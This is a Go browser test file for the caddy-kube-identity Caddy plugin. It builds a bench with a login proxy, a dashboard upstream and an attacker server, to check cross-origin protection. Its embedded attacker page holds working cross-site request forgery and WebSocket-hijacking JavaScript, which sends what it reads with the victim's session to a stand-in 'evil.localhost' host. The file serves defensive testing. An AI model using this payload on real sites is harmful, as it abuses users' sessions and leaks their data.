// Copyright 2026 The caddy-kube-identity authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package browser_test

import (
	"bufio"
	"crypto/sha1"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/caddy-kube-identity/caddy-kube-identity/internal/testhandler"
)

// The browser decides what a page of another origin can do with a session: which cookies it
// sends, whether it writes Origin and Sec-Fetch-Site, and whether it asks the server first.
// So the tests use a real browser, and show that every attack works on a path without
// protection.
//
//	Chromium ──▶ login, which writes X-Forwarded-User for a cookie ──▶ Caddy ──▶ upstream
//	        └──▶ the attacker's server, under other names
type browserBench struct {
	upstream *testhandler.Upstream
	dash     string // host and port of the login
	evil     string // port of the attacker

	mu      sync.Mutex
	seen    map[string]browserSeen // by path: what went through the login
	visits  []browserSeen          // to /guarded/page, in their order
	reports map[string]map[string]any
	changed chan struct{}
}

// browserSeen is a request as the login saw it, and its answer.
type browserSeen struct {
	status    int
	location  string
	session   bool
	fetchSite string
	arrived   string // the user that the upstream saw; "" if the request did not arrive
}

// browserSites are the paths of Caddy's site, each with another protection.
const browserSites = `http://:0 {
	handle /bare/* {
		reverse_proxy %[1]s
	}
	handle /guarded/* {
		kube_identity {
			%[2]s
			login /signin?rd=${url}
		}
		reverse_proxy %[1]s
	}
	handle /trusting/* {
		kube_identity {
			%[2]s
			cross_origin %[3]s
		}
		reverse_proxy %[1]s
	}
	handle /off/* {
		kube_identity {
			%[2]s
			cross_origin off
		}
		reverse_proxy %[1]s
	}
}
`

const browserIdentity = `trusted_proxies static 127.0.0.1
			forwarded oauth2_proxy
			inject headers {
				user X-Forwarded-User
			}`

// browserPage tries every kind of request on every path, and reports the results.
const browserPage = `<!doctype html><title>page</title><body><script>
const dash = %q, report = %q;
const socket = path => new Promise(done => {
	const ws = new WebSocket("ws://" + dash + path + "/socket");
	ws.onmessage = event => { done(event.data); ws.close(); };
	ws.onerror = () => done("refused");
});
(async () => {
	const learnt = {};
	for (const path of ["/bare", "/guarded", "/trusting", "/off"]) {
		const at = "http://" + dash + path;
		await fetch(at + "/fetch", {method: "POST", mode: "no-cors", credentials: "include", body: "delete"}).catch(() => 0);
		await fetch(at + "/json", {method: "PUT", headers: {"Content-Type": "application/json"}, credentials: "include", body: "{}"}).catch(() => 0);
		learnt[path + "/read"] = await fetch(at + "/read", {credentials: "include"}).then(r => r.text()).catch(() => "refused");
		learnt[path + "/socket"] = await socket(path);
		const form = document.body.appendChild(document.createElement("form"));
		Object.assign(form, {method: "POST", action: at + "/form", target: path.slice(1)});
		form.submit();
	}
	await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(learnt)});
})();
</script>`

// browserSignIn is the login's page: before the user is let in, it sends a request without a
// session.
const browserSignIn = `<!doctype html><title>sign in</title><script>
fetch("/guarded/watch", {credentials: "include"}).then(answer =>
	fetch(%q, {method: "POST", mode: "no-cors", body: JSON.stringify({status: answer.status, redirected: answer.redirected})})
).then(() => location = "/login?then=" + encodeURIComponent(new URL(location).searchParams.get("rd")));
</script>`

// newBrowserBench starts everything except the browser. All host names end with suffix.
func newBrowserBench(t *testing.T, suffix string) *browserBench {
	t.Helper()
	b := &browserBench{
		seen: make(map[string]browserSeen), reports: make(map[string]map[string]any), changed: make(chan struct{}, 1),
	}
	evil := httptest.NewUnstartedServer(http.HandlerFunc(b.attacker))
	front := httptest.NewUnstartedServer(nil)
	t.Cleanup(evil.Close)
	t.Cleanup(front.Close)
	_, b.evil, _ = net.SplitHostPort(evil.Listener.Addr().String())
	_, port, _ := net.SplitHostPort(front.Listener.Addr().String())
	b.dash = "dash.corp" + suffix + ":" + port
	b.upstream = testhandler.NewUpstreamWith(t, b.respond)
	origins := make([]string, 0, len(browserAttackers()))
	for _, attacker := range browserAttackers() {
		origins = append(origins, "http://"+attacker.name+suffix+":"+b.evil)
	}
	c := testhandler.Start(t, "", fmt.Sprintf(browserSites, b.upstream.Addr, browserIdentity, strings.Join(origins, " ")))
	front.Config.Handler = b.login(&url.URL{Scheme: "http", Host: c.Addr})
	front.Start()
	evil.Start()
	return b
}

// login is the proxy in front of Caddy: it gives every client a session, and names to Caddy
// the user of its cookie.
func (b *browserBench) login(caddy *url.URL) http.Handler {
	proxy := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(caddy)
			r.Out.Host = r.In.Host
			r.Out.Header.Del("X-Forwarded-User")
			if _, err := r.In.Cookie("session"); err == nil {
				r.Out.Header.Set("X-Forwarded-User", "alice")
			}
		},
		ModifyResponse: func(answer *http.Response) error {
			_, err := answer.Request.Cookie("session")
			b.record(answer.Request.URL.Path, func(seen *browserSeen) {
				seen.status, seen.location, seen.session = answer.StatusCode, answer.Header.Get("Location"), err == nil
				seen.fetchSite = answer.Request.Header.Get("Sec-Fetch-Site")
			})
			return nil
		},
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "alices", Path: "/", HttpOnly: true})
		http.Redirect(w, r, r.FormValue("then"), http.StatusFound)
	})
	mux.HandleFunc("/signin", func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprintf(w, browserSignIn, "http://evil.localhost:"+b.evil+"/report/signin")
	})
	mux.Handle("/", proxy)
	return mux
}

// attacker serves the attacker's page under any name, and takes reports.
func (b *browserBench) attacker(w http.ResponseWriter, r *http.Request) {
	name, isReport := strings.CutPrefix(r.URL.Path, "/report/")
	if !isReport {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, browserPage, b.dash, "/report/page")
		return
	}
	learnt := make(map[string]any)
	_ = json.NewDecoder(r.Body).Decode(&learnt)
	b.mu.Lock()
	b.reports[name] = learnt
	b.mu.Unlock()
	b.wake()
}

// respond is the dashboard: pages, the resources that they ask for, and websockets.
func (b *browserBench) respond(conn net.Conn, reader *bufio.Reader, request testhandler.Received) bool {
	path := strings.Fields(request.Line)[1]
	user := request.Header.Get("X-Forwarded-User")
	if user == "" {
		user = "guest"
	}
	b.record(path, func(seen *browserSeen) { seen.arrived = user })
	key := ""
	for name, lines := range request.Header {
		if strings.EqualFold(name, "Sec-WebSocket-Key") {
			key = lines[0]
		}
	}
	if key != "" {
		sum := sha1.Sum([]byte(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11")) // RFC 6455, section 4.2.2
		_, _ = fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
			"Sec-WebSocket-Accept: %s\r\n\r\n\x81%c%s", base64.StdEncoding.EncodeToString(sum[:]), rune(len(user)), user)
		_, _ = io.Copy(io.Discard, reader)
		return false
	}
	body, cors := user, ""
	if strings.HasSuffix(path, "/json") { // the dashboard allows each page, so that kube_identity alone decides
		cors = "Access-Control-Allow-Methods: PUT\r\nAccess-Control-Allow-Headers: content-type\r\n" +
			"Access-Control-Allow-Credentials: true\r\nAccess-Control-Allow-Origin: " + request.Header.Get("Origin") + "\r\n"
	}
	if strings.HasSuffix(path, "/page") {
		body = fmt.Sprintf(browserPage, b.dash, "http://evil.localhost:"+b.evil+"/report/page")
	}
	_, err := fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n%sContent-Length: %d\r\n\r\n%s", cors, len(body), body)
	return err == nil
}

func (b *browserBench) record(path string, change func(*browserSeen)) {
	b.mu.Lock()
	seen := b.seen[path]
	change(&seen)
	b.seen[path] = seen
	if path == "/guarded/page" {
		b.visits = append(b.visits, seen)
	}
	b.mu.Unlock()
	b.wake()
}

// at is the request for a path as the login saw it, and learnt the page's report of it.
func (b *browserBench) at(path string) browserSeen {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.seen[path]
}

func (b *browserBench) learnt(page, what string) any {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.reports[page][what]
}

func (b *browserBench) firstVisit() browserSeen {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.visits[0]
}

func (b *browserBench) wake() {
	select {
	case b.changed <- struct{}{}:
	default:
	}
}
